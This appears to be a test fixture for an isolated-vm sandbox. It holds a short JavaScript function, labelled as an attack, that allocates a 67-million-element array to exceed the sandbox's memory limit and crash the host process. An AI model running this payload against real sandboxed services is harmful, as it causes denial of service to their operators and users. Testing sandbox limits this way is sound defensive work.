// ATTACK: new Array(2**26).fill(0) — one builtin call turns a 67 M-element sparse array into a
// dictionary that outgrows limit + 1 GB before isolated-vm's post-GC check can terminate it.
// EXPECT: process crash (Catastrophic out-of-memory error)
function revoke(context) {
  if (context.getGrant().getSubject() !== context.getScript().getName()) return true;
  return new Array(2 ** 26).fill(0).length > 0;
}
